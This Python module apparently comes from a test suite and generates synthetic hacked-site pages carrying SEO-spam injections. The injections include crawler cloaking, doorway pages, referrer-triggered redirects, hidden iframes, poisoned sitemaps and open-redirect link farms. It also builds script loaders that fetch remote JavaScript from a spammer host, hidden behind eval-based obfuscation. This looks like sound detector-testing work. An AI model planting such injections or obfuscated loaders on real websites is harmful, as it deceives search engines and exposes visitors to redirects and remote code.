"""Techniques that give askers another page, another place, or something that loads it."""

import base64
import html
from dataclasses import replace
from urllib.parse import quote

from tests.pages.dice import Dice
from tests.pages.draft import Draft
from tests.pages.hidden import (
    Injected,
    at,
    footer_anchors,
    for_all,
    for_crawler_mostly,
    hidden_div,
    tiny_text,
)
from tests.pages.page import Answer
from tests.pages.serving import Injection, answered, redirected
from tests.pages.spammer import DOORWAYS, Spammer
from tests.pages.spelling import slug

DOORWAY = (
    '<!DOCTYPE html><html lang="vi"><head>{charset}<title>{title}</title><meta name="description" '
    'content="{description}"><link rel="canonical" href="{url}"></head><body><header><a href="/">'
    "{brand}</a></header><h1>{title}</h1>{body}<nav>{links}</nav><footer>© {brand}</footer></body>"
    "</html>"
)
BARE = (
    "<html><head>{charset}<title>{title}</title><meta name=keywords content='{description}'></head>"
    "<body><center><h1>{brand}</h1></center>{body}<hr>{links}</body></html>"
)


def doorway_answer(spammer: Spammer, draft: Draft) -> Answer:
    """Make a whole page of spam, on the victim's server."""
    meta = draft.slots["meta_charset"]
    text = spammer.dice.pick((DOORWAY, DOORWAY, BARE)).format(
        charset=meta,
        title=spammer.markup(spammer.title()),
        description=html.escape(spammer.text(spammer.sentences(1)[0])),
        url=html.escape(draft.url),
        brand=spammer.markup(spammer.brand()),
        body=spammer.paragraphs(spammer.dice.number(4, 9)),
        links=spammer.anchors(spammer.dice.number(3, 12)),
    )
    return answered(replace(draft, status=200), text, moving=False, dice=spammer.dice)


def cloaking(spammer: Spammer, draft: Draft) -> Injected:
    """Give the crawler a page of spam, readers the school's own."""
    injection = Injection(answer=doorway_answer(spammer, draft))
    if spammer.dice.chance(0.25):
        return {"crawler": injection, "referrer": injection}
    return {"crawler": injection}


def doorway_page(spammer: Spammer, draft: Draft) -> Injected:
    """Add pages of spam of their own, in the site's dress or bare."""
    if spammer.dice.chance(0.5):
        return for_all(Injection(answer=doorway_answer(spammer, draft)))
    title = spammer.markup(spammer.title())
    article = spammer.paragraphs(spammer.dice.number(4, 8)) + spammer.anchors(4)
    replaced = {"title": title, "article_title": title, "article": article}
    return for_all(Injection(replaced=replaced, status=200))


def doorway_path(dice: Dice) -> str:
    """Give the path of a page that the site's owner never made."""
    end = dice.pick((".html", "", ".pdf", ".pdf.html", "/", ".php", ".shtml"))
    return f"/{dice.pick(DOORWAYS)}/{dice.letters(4)}-{dice.letters(7)}{end}"


def _goal(spammer: Spammer) -> str:
    return spammer.remember(f"https://{spammer.brand_host()}/?utm={spammer.dice.letters(6)}")


def referrer_redirect(spammer: Spammer, draft: Draft) -> Injected:
    """Send away only those who come from a search result."""
    goal = _goal(spammer)
    script = f"<script>window.location.replace('{goal}');</script>"
    wait = spammer.dice.number(0, 2)
    asked = (
        "<script>var r=document.referrer;if(/timkiem|search|coccoc|bing|google/i.test(r))"
        f"{{location.href='{goal}';}}</script>"
    )
    way = spammer.dice.number(1, 6)
    injected: Injected = {
        1: {"referrer": Injection(answer=redirected(302, goal))},
        2: {"referrer": Injection(answer=redirected(301, goal))},
        3: {"referrer": at("head", script)},
        4: {"referrer": at("head", f'<meta http-equiv="refresh" content="{wait};url={goal}">')},
        5: for_all(at("end", asked)),
        6: {"referrer": Injection(answer=redirected(307, goal))},
    }[way]  # type: ignore[assignment]
    if spammer.dice.chance(0.4) and way != 5:
        injected["crawler"] = Injection(answer=doorway_answer(spammer, draft))
    return injected


def _obfuscated(spammer: Spammer, code: str) -> str:
    """Write a script so that its text says nothing until it runs."""
    encoded = base64.b64encode(quote(code).encode()).decode()
    units = code.encode("utf-16-le")
    codes = [low + 256 * high for low, high in zip(units[::2], units[1::2], strict=True)]
    hexed = "".join(f"\\x{n:02x}" if n < 128 else f"\\u{n:04x}" for n in codes)
    percents = "".join(f"%{n:02x}" if n < 128 else f"%u{n:04x}" for n in codes)
    backwards = code[::-1].replace("\\", "\\\\").replace('"', '\\"')
    middle = len(code) // 3
    halves = [part.replace("'", "\\'") for part in (code[:middle], code[middle:])]
    return spammer.dice.pick(
        (
            f'eval(decodeURIComponent(atob("{encoded}")));',
            f"eval(String.fromCharCode({','.join(map(str, codes))}));",
            f'eval(unescape("{percents}"));',
            f"var _0x{spammer.dice.letters(4, 'abcdef0123')}=1;eval('{hexed}');",
            f'eval("{backwards}".split("").reverse().join(""));',
            f"new Function('{halves[0]}'+'{halves[1]}')();",
        )
    )


def foreign_script(spammer: Spammer, draft: Draft) -> Injected:
    """Load links or a redirect by a script, most often an unreadable one."""
    links = spammer.anchors(spammer.dice.number(2, 5)).replace("'", "&#39;").replace("\n", " ")
    loader = f"https://{spammer.brand_host()}/js/{spammer.dice.letters(5)}.js"
    write = f"document.write('<div style=\"display:none\">{links}</div>');"
    load = f"document.write('<script src=\"{spammer.remember(loader)}\"><\\/script>');"
    move = f"if(document.referrer)location.href='{_goal(spammer)}';"
    code = spammer.dice.pick((write, write + load, write, move, load + move))
    shown = code if spammer.dice.chance(0.2) else _obfuscated(spammer, code)
    spot = spammer.dice.pick(("head", "end", "footer"))
    # a page may not close its script element before the script ends
    safe = shown.replace("</script>", "<\\/script>")
    return for_crawler_mostly(spammer, at(spot, f"<script>{safe}</script>"), 0.1)


def iframe(spammer: Spammer, draft: Draft) -> Injected:
    """Show the spammer's site in a frame: over everything, or unseen."""
    goal = html.escape(_goal(spammer))
    title = html.escape(spammer.text(spammer.keyword()))
    inner = html.escape(spammer.paragraphs(3))
    frame = spammer.dice.pick(
        (
            f'<iframe src="{goal}" title="{title}" style="position:fixed;top:0;left:0;width:100%;'
            'height:100%;border:0;z-index:999999"></iframe>',
            f'<iframe src="{goal}" width="0" height="0" frameborder="0" title="{title}"></iframe>',
            f'<iframe srcdoc="{inner}" width="1" height="1" style="visibility:hidden"></iframe>',
            f'<div style="display:none"><iframe src="{goal}">{title}</iframe></div>',
        )
    )
    return for_crawler_mostly(spammer, at(spammer.dice.pick(("top", "end")), frame), 0.1)


def sitemap(spammer: Spammer, draft: Draft) -> Injected:
    """Add addresses of spam to the sitemap, as a rule for the crawler alone or for everyone."""
    own = [f"https://{draft.site.host}/{slug(text)}.html" for text in draft.article.split("\n")]
    false = [_sitemap_address(spammer) for _ in range(spammer.dice.number(12, 50))]
    listed = spammer.dice.shuffled([*own, *false]) if spammer.dice.chance(0.5) else [*own, *false]
    entries = "\n".join(f"<url><loc>{html.escape(address)}</loc></url>" for address in listed)
    text = f'<?xml version="1.0" encoding="UTF-8"?>\n<urlset>\n{entries}\n</urlset>\n'
    injection = Injection(answer=answered(draft, text, moving=False, dice=spammer.dice))
    return for_crawler_mostly(spammer, injection, 0.4)


def _sitemap_address(spammer: Spammer) -> str:
    words = slug(spammer.keyword() if spammer.dice.chance(0.7) else spammer.title())
    host = spammer.brand_host() if spammer.dice.chance(0.1) else spammer.site.host
    if not words:
        words = slug(spammer.brand()) or spammer.dice.letters(6)
    return f"https://{host}/{spammer.dice.pick(DOORWAYS)}/{words}-{spammer.dice.letters(4)}"


def open_redirect_farm(spammer: Spammer, draft: Draft) -> Injected:
    """List links that lead through other agencies' open redirects."""
    links = "<br>".join(
        f'<a href="{html.escape(spammer.open_redirect())}">{spammer.markup(spammer.keyword())}</a>'
        for _ in range(spammer.dice.number(6, 25))
    )
    if spammer.dice.chance(0.4):
        title = spammer.markup(spammer.title())
        return for_all(
            Injection(replaced={"title": title, "article_title": title, "article": links})
        )
    hidden = spammer.dice.pick((links, f'<div style="display:none">{links}</div>'))
    return for_crawler_mostly(spammer, at(spammer.dice.pick(("footer", "article")), hidden), 0.2)


def of_any_place(spammer: Spammer, draft: Draft) -> Injected:
    """Advertise something in one of the usual places."""
    ways = (hidden_div, footer_anchors, doorway_page, cloaking, tiny_text)
    return spammer.dice.pick(ways)(spammer, draft)
